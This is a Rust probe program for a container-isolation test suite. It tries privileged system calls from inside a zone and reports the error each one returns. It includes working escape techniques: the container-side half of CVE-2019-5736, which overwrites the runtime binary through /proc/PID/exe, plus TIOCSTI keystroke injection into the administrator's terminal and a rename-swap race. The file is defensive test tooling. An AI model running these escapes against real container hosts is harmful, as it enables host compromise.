//! escape-probe: the system calls of tests/escape.rs that busybox cannot make. It runs inside
//! a zone, so it is built static (std only, no crates: `rustc -C target-feature=+crt-static`).
//! Each command makes one call and prints `ok` or the errno's name (`EPERM`, ...); the exit
//! status is 0 either way, so the test asserts the exact outcome from the output.

use std::ffi::CString;
use std::io::Read;

extern "C" {
    fn syscall(n: i64, ...) -> i64;
}

const SYS_PTRACE: i64 = 101;
const SYS_MKNOD: i64 = 133;
const SYS_MOUNT: i64 = 165;
const SYS_INIT_MODULE: i64 = 175;
const SYS_SOCKET: i64 = 41;
const SYS_SETSOCKOPT: i64 = 54;
const SYS_FINIT_MODULE: i64 = 313;
const SYS_SETNS: i64 = 308;
const SYS_OPEN: i64 = 2;
const SYS_KEXEC_LOAD: i64 = 246;
const SYS_BPF: i64 = 321;
const SYS_IOCTL: i64 = 16;
const SYS_KEYCTL: i64 = 250;
const SYS_UNSHARE: i64 = 272;

fn name(errno: i32) -> &'static str {
    match errno {
        1 => "EPERM",
        2 => "ENOENT",
        3 => "ESRCH",
        11 => "EAGAIN",
        12 => "ENOMEM",
        13 => "EACCES",
        19 => "ENODEV",
        22 => "EINVAL",
        30 => "EROFS",
        26 => "ETXTBSY",
        38 => "ENOSYS",
        95 => "EOPNOTSUPP",
        97 => "EAFNOSUPPORT",
        _ => "E?",
    }
}

fn report(r: i64) {
    if r < 0 {
        let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
        println!("{} {e}", name(e));
    } else {
        println!("ok");
    }
}

fn c(s: &str) -> CString {
    CString::new(s).unwrap()
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
    // SAFETY (all blocks below): raw system calls with NUL-terminated strings and buffers that
    // outlive the call; the kernel validates everything else.
    match arg(0).as_str() {
        "init_module" => {
            let image = [0u8; 64];
            let params = c("");
            report(unsafe { syscall(SYS_INIT_MODULE, image.as_ptr(), 64usize, params.as_ptr()) });
        }
        "finit_module" => {
            let f = std::fs::File::open(arg(1)).expect("open the module file");
            let params = c("");
            let fd = std::os::fd::AsRawFd::as_raw_fd(&f) as i64;
            report(unsafe { syscall(SYS_FINIT_MODULE, fd, params.as_ptr(), 0i64) });
        }
        "kexec_load" => report(unsafe { syscall(SYS_KEXEC_LOAD, 0i64, 0i64, 0i64, 0i64) }),
        "bpf" => {
            let attr = [0u8; 128];
            // BPF_MAP_CREATE with an empty attribute.
            report(unsafe { syscall(SYS_BPF, 0i64, attr.as_ptr(), 128i64) });
        }
        "ptrace" => {
            let pid: i64 = arg(1).parse().expect("pid");
            // PTRACE_ATTACH
            report(unsafe { syscall(SYS_PTRACE, 16i64, pid, 0i64, 0i64) });
        }
        "mknod_block" => {
            let (major, minor): (u64, u64) = (arg(2).parse().unwrap(), arg(3).parse().unwrap());
            let dev = (major << 8) | (minor & 0xff) | ((minor & !0xff) << 12);
            let path = c(&arg(1));
            report(unsafe { syscall(SYS_MKNOD, path.as_ptr(), 0o60600i64, dev as i64) });
        }
        "mount" => {
            let (src, dst, typ) = (c(&arg(1)), c(&arg(2)), c(&arg(3)));
            report(unsafe {
                syscall(SYS_MOUNT, src.as_ptr(), dst.as_ptr(), typ.as_ptr(), 0i64, 0i64)
            });
        }
        "raw_bind" => {
            // AF_PACKET, SOCK_RAW, ETH_P_ALL; then SO_BINDTODEVICE to the given interface.
            let s = unsafe { syscall(SYS_SOCKET, 17i64, 3i64, 0x0300i64) };
            if s < 0 {
                report(s);
                return;
            }
            let ifname = c(&arg(1));
            let len = arg(1).len() as i64 + 1;
            // SOL_SOCKET = 1, SO_BINDTODEVICE = 25
            report(unsafe { syscall(SYS_SETSOCKOPT, s, 1i64, 25i64, ifname.as_ptr(), len) });
        }
        "setns" => {
            let path = c(&arg(1));
            let fd = unsafe { syscall(SYS_OPEN, path.as_ptr(), 0i64, 0i64) };
            if fd < 0 {
                report(fd);
                return;
            }
            report(unsafe { syscall(SYS_SETNS, fd, 0i64) });
        }
        // KEYCTL_JOIN_SESSION_KEYRING with a new anonymous keyring.
        "keyctl" => report(unsafe { syscall(SYS_KEYCTL, 1i64, 0i64) }),
        // Into a new user namespace (all capabilities there) and back to the zone's one
        // through an fd opened before: `userns <unshare result> back <setns result>`.
        "userns_back" => {
            let path = c("/proc/self/ns/user");
            let fd = unsafe { syscall(SYS_OPEN, path.as_ptr(), 0i64, 0i64) };
            // CLONE_NEWUSER
            let r = unsafe { syscall(SYS_UNSHARE, 0x1000_0000i64) };
            print!("userns ");
            report(r);
            print!("back ");
            report(unsafe { syscall(SYS_SETNS, fd, 0x1000_0000i64) });
        }
        "write" => {
            let path = c(&arg(1));
            // O_WRONLY
            let fd = unsafe { syscall(SYS_OPEN, path.as_ptr(), 1i64, 0i64) };
            if fd < 0 {
                report(fd);
                return;
            }
            let data = arg(2);
            report(unsafe { syscall(1, fd, data.as_ptr(), data.len() as i64) });
        }
        "read" => match std::fs::File::open(arg(1)) {
            Ok(mut f) => {
                let mut buf = vec![0u8; 4096];
                match f.read(&mut buf) {
                    Ok(n) => println!("read {n}"),
                    Err(e) => println!("{} {}", name(e.raw_os_error().unwrap_or(0)), 0),
                }
            }
            Err(e) => println!("{} {}", name(e.raw_os_error().unwrap_or(0)), 0),
        },
        "alloc" => {
            // Touch N MiB, one page at a time; print how far it got (the OOM killer may end us).
            let mib: usize = arg(1).parse().unwrap();
            let mut v: Vec<Vec<u8>> = Vec::new();
            for i in 0..mib {
                v.push(vec![1u8; 1 << 20]);
                if i % 16 == 0 {
                    println!("allocated {i}");
                }
            }
            println!("allocated all {}", v.len());
        }
        "tiocsti" => {
            // Push TEXT and a newline into the terminal on fd 0 (TIOCSTI = 0x5412): what a
            // contained process would type into the administrator's shell.
            let mut r = 0i64;
            for b in arg(1).bytes().chain(std::iter::once(b'\n')) {
                r = unsafe { syscall(SYS_IOCTL, 0i64, 0x5412i64, &b as *const u8) };
                if r < 0 {
                    break;
                }
            }
            report(r);
        }
        "fds" => {
            // The fds this process was started with, besides 0-2, and where they lead.
            let mut out = Vec::new();
            for e in std::fs::read_dir("/proc/self/fd").unwrap().flatten() {
                let n: i32 = e.file_name().to_str().unwrap().parse().unwrap();
                let link = std::fs::read_link(e.path()).unwrap_or_default();
                // The listing's own directory fd points at /proc/<pid>/fd.
                if n > 2 && !link.to_string_lossy().ends_with("/fd") {
                    out.push(format!("{n}:{}", link.display()));
                }
            }
            println!("fds [{}]", out.join(" "));
        }
        "exe_watch" => exe_watch(arg(1).parse().unwrap_or(20)),
        "fd_watch" => fd_watch(arg(1).parse().unwrap_or(20)),
        "swap" => {
            // Exchange A and B (renameat2 RENAME_EXCHANGE) in a tight loop until B's directory
            // has a file `stop` or SECS have passed; prints how many exchanges were made.
            let (a, b) = (c(&arg(1)), c(&arg(2)));
            let stop = std::path::Path::new(&arg(2)).with_file_name("stop");
            let secs: u64 = arg(3).parse().unwrap_or(30);
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
            let mut n = 0u64;
            while std::time::Instant::now() < deadline && !stop.exists() {
                for _ in 0..1000 {
                    // renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
                    if unsafe { syscall(316, -100i64, a.as_ptr(), -100i64, b.as_ptr(), 2i64) } == 0
                    {
                        n += 1;
                    }
                }
            }
            println!("swapped {n}");
        }
        "follow_fds" => {
            // Follow every /proc/PID/fd/N link of another process (needs ptrace access).
            let (mut total, mut followed) = (0, 0);
            match std::fs::read_dir(format!("/proc/{}/fd", arg(1))) {
                Ok(d) => {
                    for f in d.flatten() {
                        total += 1;
                        if std::fs::read_link(f.path()).is_ok() {
                            followed += 1;
                        }
                    }
                    println!("followed {followed} of {total}");
                }
                Err(e) => println!("list {}", name(e.raw_os_error().unwrap_or(0))),
            }
        }
        other => {
            eprintln!("escape-probe: unknown command {other:?}");
            std::process::exit(2);
        }
    }
}

/// The other half of CVE-2019-5736: wait (up to SECS) for a process of this container whose
/// command line starts with /proc/self/exe (a `#!/proc/self/exe` script: the runtime's own
/// binary), try to open its exe for writing while it runs, keep an O_PATH handle, and once it
/// has exited open that handle for writing and overwrite the start of the file.
/// Prints `found <pid> running <result> after <result>` or `notfound`.
fn exe_watch(secs: u64) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let me = std::process::id().to_string();
    let pid = loop {
        let hit = std::fs::read_dir("/proc").unwrap().flatten().find_map(|e| {
            let name = e.file_name().into_string().ok()?;
            if name.parse::<u32>().is_err() || name == me {
                return None;
            }
            let cmd = std::fs::read(e.path().join("cmdline")).ok()?;
            cmd.starts_with(b"/proc/self/exe").then_some(name)
        });
        if let Some(p) = hit {
            break p;
        }
        if std::time::Instant::now() > deadline {
            println!("notfound");
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    let exe = c(&format!("/proc/{pid}/exe"));
    // O_WRONLY
    let running = open_result(unsafe { syscall(SYS_OPEN, exe.as_ptr(), 1i64, 0i64) });
    // O_PATH
    let handle = unsafe { syscall(SYS_OPEN, exe.as_ptr(), 0o10000000i64, 0i64) };
    println!("found {pid}");
    use std::io::Write;
    let _ = std::io::stdout().flush();
    while std::path::Path::new(&format!("/proc/{pid}")).exists() {
        if std::time::Instant::now() > deadline {
            println!("running {running} after still-running");
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let after = if handle < 0 {
        "no-handle".to_string()
    } else {
        let again = c(&format!("/proc/self/fd/{handle}"));
        // The host-side runtime that started the process may still run the same binary for a
        // moment (ETXTBSY): try again for up to 5 s.
        let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
        let mut fd = unsafe { syscall(SYS_OPEN, again.as_ptr(), 1i64, 0i64) };
        while fd < 0
            && std::io::Error::last_os_error().raw_os_error() == Some(26)
            && std::time::Instant::now() < until
        {
            std::thread::sleep(std::time::Duration::from_millis(10));
            fd = unsafe { syscall(SYS_OPEN, again.as_ptr(), 1i64, 0i64) };
        }
        if fd >= 0 {
            // A sealed memfd opens for writing but refuses the write itself.
            let data = b"PWNED-BY-THE-CONTAINER";
            let w = unsafe { syscall(1, fd, data.as_ptr(), data.len() as i64) };
            if w < 0 {
                return println!("running {running} after write-{}", open_result(w));
            }
        }
        open_result(fd)
    };
    println!("running {running} after {after}");
}

fn open_result(r: i64) -> String {
    if r < 0 {
        let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
        format!("{}", name(e))
    } else {
        "ok".to_string()
    }
}

/// Until /tmp/stop-watch exists (at most SECS): look for processes of the runtime inside the
/// container (a command line naming runz or zlogin: an exec'd process before its execve) and
/// read where their fds lead (/proc/<pid>/fd/N: a host directory would be a way out; listing
/// the directory is only DAC, following a link needs ptrace access). Prints `seen N listed M`
/// (distinct pids, and those of which some fd could be followed).
fn fd_watch(secs: u64) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let me = std::process::id().to_string();
    let mut seen = std::collections::HashSet::new();
    let mut listed = std::collections::HashSet::new();
    while std::time::Instant::now() < deadline
        && !std::path::Path::new("/tmp/stop-watch").exists()
    {
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let name = e.file_name().into_string().unwrap_or_default();
            if name.parse::<u32>().is_err() || name == me {
                continue;
            }
            let Ok(cmd) = std::fs::read(e.path().join("cmdline")) else {
                continue;
            };
            let cmd = String::from_utf8_lossy(&cmd);
            if !(cmd.contains("runz") || cmd.contains("zlogin")) {
                continue;
            }
            seen.insert(name.clone());
            let Ok(d) = std::fs::read_dir(e.path().join("fd")) else {
                continue;
            };
            let followed = d.flatten().any(|f| std::fs::read_link(f.path()).is_ok());
            // Still the runtime afterwards (execve is one-way): the link was followed before
            // the process became the container's program.
            let still = std::fs::read(e.path().join("cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(&*cmd));
            if followed && still {
                listed.insert(name);
            }
        }
    }
    println!("seen {} listed {}", seen.len(), listed.len());
}
